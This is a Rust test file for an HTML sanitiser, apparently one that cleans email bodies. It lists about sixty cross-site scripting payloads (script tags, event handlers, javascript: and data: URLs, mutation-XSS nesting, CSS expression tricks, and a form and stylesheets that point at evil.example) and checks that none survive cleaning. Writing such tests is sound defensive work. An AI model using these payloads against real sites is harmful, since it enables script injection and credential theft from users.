//! What may and may not survive of hostile and of ordinary HTML.

use super::*;

fn blocked(raw: &str) -> Sanitised {
    html(raw, Images::Blocked, |_| None)
}

fn allowed(raw: &str) -> Sanitised {
    html(raw, Images::Allowed, |_| None)
}

const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" onload='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img dynsrc=\"javascript:alert(1)\"><img lowsrc=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://x/1\">x</a><a href=\"file:///etc/passwd\">y</a>",
    "<a href=x onclick=alert(1) style=\"x:expression(alert(1))\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\"></mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form action=\"https://evil.example\"><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit value=x>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<body onload=alert(1) background=\"javascript:alert(1)\">x</body>",
    "<table background=\"javascript:alert(1)\"><tr><td background='javascript:alert(1)'>x</table>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background:u\\72l(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img src=\"</noembed><iframe onload=alert(1)>\" /></noembed>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a id=location name=cookie class=modal href=https://example.com>x</a>",
    "<img usemap=#m src=https://x/1><map name=m><area shape=default href=javascript:alert(1)></map>",
    "<p onmouseover\n=\nalert(1)>x</p>",
    "<p/onclick=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
];

/// The cleaner does not keep the order of attributes.
fn letters(html: &str) -> Vec<char> {
    let mut letters: Vec<char> = html.chars().collect();
    letters.sort_unstable();
    letters
}

#[test]
fn no_known_vector_survives() {
    let forbidden = Regex::new(
        r#"(?i)<(script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|textarea|area|video|audio)|<[^>]*\son\w+\s*=|(javascript|vbscript|data|blob|file):[^<]*>|expression\(|url\(|position:|<[^>]*\s(id|class|name)="#,
    )
    .unwrap();
    let title = Regex::new(r#"title="[^"]*""#).unwrap();
    for vector in VECTORS {
        for clean in [blocked(vector).html, allowed(vector).html] {
            let without_titles = title.replace_all(&clean, "").into_owned();
            assert!(!forbidden.is_match(&without_titles), "{vector}\nbecame {clean}");
            let again = allowed(&clean).html;
            assert_eq!(letters(&again), letters(&clean), "cleaning is stable for {vector}");
        }
    }
}

#[test]
fn remote_images_are_blocked_and_counted_wherever_they_hide() {
    let cases = [
        ("<img src=\"https://t.example/p.gif\">", 1),
        ("<img src=\"//t.example/p.gif\">", 1),
        ("<img src='https://t.example/1' srcset='https://t.example/1 1x, https://t.example/2 2x'>", 2),
        (
            "<table background='http://t.example/b.png'><tr><td background='http://t.example/c.png'>x</td></tr></table>",
            2,
        ),
        ("<div style=\"color:red;background-image:url('https://t.example/b.png')\">x</div>", 1),
        ("<div style=\"background:#fff url(https://t.example/b.png)\">x</div>", 1),
        ("<div style=\"background-image:image-set('https://t.example/b.png' 1x)\">x</div>", 0),
        ("<p>none</p>", 0),
    ];
    for (raw, count) in cases {
        let clean = blocked(raw);
        assert_eq!(clean.blocked_images, count, "{raw}");
        assert!(!clean.html.contains("t.example"), "{raw} became {}", clean.html);
    }
}

#[test]
fn allowed_images_stay_and_are_not_counted() {
    let raw = "<img src=\"https://t.example/p.gif\" alt=\"P\"><div style=\"background-image:url(https://t.example/b.png)\">x</div>";
    let clean = allowed(raw);
    assert_eq!(clean.blocked_images, 0);
    assert!(clean.html.contains("src=\"https://t.example/p.gif\""), "{}", clean.html);
    assert!(clean.html.contains("https://t.example/b.png"), "{}", clean.html);
}

#[test]
fn relative_and_data_images_never_stay() {
    for raw in ["<img src=\"/v1/users\">", "<img src=\"x.png\">", "<img src=\"data:image/png;base64,AAAA\">"]
    {
        assert_eq!(allowed(raw).html, "<img>", "{raw}");
        assert_eq!(blocked(raw).blocked_images, 0, "{raw}");
    }
}

#[test]
fn cid_images_get_the_address_that_the_caller_gives() {
    let raw = r#"<img src="cid:logo@x"><img src="CID:a%26b@x"><img src="cid:missing@x">"#;
    let clean = html(raw, Images::Blocked, |id| match id {
        "logo@x" => Some("/v1/attachments/1".to_owned()),
        "a&b@x" => Some("https://api.example/2".to_owned()),
        _ => None,
    });
    assert_eq!(clean.html, r#"<img src="/v1/attachments/1"><img src="https://api.example/2"><img>"#);
    assert_eq!(clean.blocked_images, 0);
}

#[test]
fn links_open_apart_and_tell_nothing() {
    let clean = blocked(r#"<a href="https://example.com/a?b=1" target="_top" rel="opener">x</a>"#).html;
    assert!(clean.contains(r#"href="https://example.com/a?b=1""#), "{clean}");
    assert!(
        clean.contains(r#"rel="noopener noreferrer nofollow""#) && clean.contains(r#"target="_blank""#),
        "{clean}"
    );
    assert!(!clean.contains("_top") && !clean.contains("\"opener\""), "{clean}");
    assert!(!blocked("<a href='/v1/users'>x</a>").html.contains("href"));
    assert!(!blocked("<a href='cid:1'>x</a>").html.contains("href"));
    assert!(blocked("<a href='mailto:a@b.example'>x</a>").html.contains("mailto:a@b.example"));
}

#[test]
fn ordinary_formatting_survives() {
    let raw = r##"<table bgcolor="#ffffff" width="600"><tr><td style="color:#333333;padding:4px"><b>Hi</b><br><ul><li>1</li></ul></td></tr></table>"##;
    let clean = blocked(raw).html;
    for part in
        ["bgcolor=\"#ffffff\"", "width=\"600\"", "color:#333333", "padding:4px", "<b>Hi</b>", "<li>1</li>"]
    {
        assert!(clean.contains(part), "{part} in {clean}");
    }
}

#[test]
fn nothing_is_shifted_out_of_its_box() {
    for style in [
        "margin:-900px",
        "margin: 0 0 0 -900px",
        "MARGIN-TOP:-9em",
        "margin-left:calc(0px - 900px)",
        "margin-left:calc(900px * (0 - 1))",
        "margin-left:max(-900px,-1px)",
        "margin-left:var(--x)",
        "margin-right:env(x,-900px)",
        "text-indent:-900px",
        "text-indent:+-900px",
        "letter-spacing:-900px",
        "margin:/*;*/-900px",
        "/*;*/margin:-900px",
        "margin:4px;margin:-900px !important",
    ] {
        let clean = blocked(&format!("<div style=\"color:red;{style}\">x</div>")).html;
        assert!(
            !clean.contains("900") && !clean.contains("-9em") && !clean.contains('('),
            "{style} became {clean}"
        );
    }
    let raw = "<div style=\"margin:0 auto;margin-left:4px;text-indent:1em;letter-spacing:0.1em\">x</div>";
    assert_eq!(blocked(raw).html, raw);
}

#[test]
fn text_has_the_words_the_quotes_and_nothing_else() {
    let raw = "<html><head><title>T</title><style>p{}</style></head><body><p>Hello <b>Anna</b>,</p><p>see <a href='https://x.example'>this</a>.</p><blockquote>old</blockquote><script>x()</script></body></html>";
    let text = text_from_html(raw);
    assert!(text.contains("Hello Anna,") && text.contains("see this."), "{text}");
    assert!(text.contains("> old"), "{text}");
    assert!(!text.contains("x()") && !text.contains("p{}") && !text.contains("https"), "{text}");
    assert_eq!(text_from_html(""), "");
}

#[test]
fn a_paragraph_is_not_wrapped() {
    let words = "word ".repeat(100);
    assert_eq!(text_from_html(&format!("<p>{words}</p>")), words.trim());
}

#[test]
fn hostile_nesting_overflows_nothing() {
    for tag in ["div", "table><tr><td", "b", "blockquote", "ul><li", "font"] {
        let raw = format!("{}deep", format!("<{tag}>").repeat(10_000));
        assert!(text_from_html(&raw).contains("deep"), "{tag}");
        assert!(blocked(&raw).html.contains("deep"), "{tag}");
    }
}

#[test]
fn a_flood_of_references_or_hard_spaces_is_shown_as_text() {
    for flood in ["x&amp;", "&nbsp;", "\u{a0}"] {
        let clean = blocked(&format!("<b>first</b>{}", flood.repeat(10_001))).html;
        assert!(clean.starts_with("<pre>") && clean.contains("first") && !clean.contains("<b>"), "{flood}");
    }
    assert!(blocked(&format!("<b>first</b>{}", "&nbsp;".repeat(500))).html.starts_with("<b>first</b>"));
}
